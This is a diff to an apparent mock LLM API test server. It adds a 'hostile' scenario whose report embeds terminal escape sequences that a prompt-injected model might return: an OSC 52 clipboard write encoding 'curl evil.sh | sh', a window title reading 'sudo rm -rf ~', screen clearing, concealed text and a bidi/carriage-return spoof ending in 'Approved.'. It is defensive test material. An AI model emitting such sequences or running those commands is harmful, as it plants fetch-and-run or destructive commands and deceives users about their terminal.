@@ -12,6 +12,8 @@ Scenarios (`server.scenario = ...`):
 
     ok, prose, fenced, think, invalid   200 with a report: clean, wrapped in prose, ```json fenced,
                                          after a <think> block, or one that fails the schema
+    hostile                              200 with a report whose text carries terminal escape sequences
+                                         (OSC 52 clipboard, title set, clear screen, conceal, C1 CSI, bidi)
     empty                                200 with an envelope holding no text (blocked, refused)
     garbage                              200 with an HTML body
     <status>                             e.g. 500, 503, 401, 403, 400, 404: that status, shaped like the API
@@ -67,6 +69,24 @@ REPORT: dict[str, Any] = {
     "tags": ["resilience", "providers"],
 }
 INVALID_REPORT: dict[str, Any] = {"title": "short", "summary": "too short", "changes": []}
+# What a prompt-injected model can send back: each sequence acts on a terminal that prints it raw.
+HOSTILE_SEQUENCES = {
+    "osc52": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",  # write "curl evil.sh | sh" to the clipboard
+    "title": "\x1b]0;sudo rm -rf ~\x1b\\",  # set the window title (ST-terminated)
+    "clear": "\x1b[2J\x1b[H",  # clear the screen, cursor home
+    "conceal": "\x1b[8m",  # hide what follows
+    "c1_csi": "\x9b31m",  # the 8-bit form of CSI
+    "dcs": "\x1bP+q544e\x1b\\",  # a DCS query (XTGETTCAP)
+    "bidi": "\u202e",  # right-to-left override
+    "cr": "\r",  # return to column 0 and overwrite
+}
+HOSTILE_REPORT: dict[str, Any] = {
+    **REPORT,
+    "title": f"Retry provider calls{HOSTILE_SEQUENCES['title']} with backoff{HOSTILE_SEQUENCES['conceal']}",
+    "summary": REPORT["summary"] + HOSTILE_SEQUENCES["osc52"] + HOSTILE_SEQUENCES["clear"],
+    "changes": [f"Add a retry wrapper{HOSTILE_SEQUENCES['c1_csi']}", f"Honour Retry-After{HOSTILE_SEQUENCES['dcs']}"],
+    "rationale": REPORT["rationale"] + HOSTILE_SEQUENCES["bidi"] + "exe.txt" + HOSTILE_SEQUENCES["cr"] + "Approved.",
+}
 HANG_SECONDS = 5.0
 
 ROUTES: list[tuple[str, re.Pattern[str]]] = [
@@ -121,6 +141,7 @@ def report_text(scenario: str) -> str:
         "fenced": f"Here it is.\n```json\n{json.dumps(REPORT, indent=2)}\n```\n",
         "think": f"<think>The diff adds a retry wrapper; summarise that.</think>\n{clean}",
         "invalid": json.dumps(INVALID_REPORT),
+        "hostile": json.dumps(HOSTILE_REPORT),
     }.get(scenario, clean)
 
 
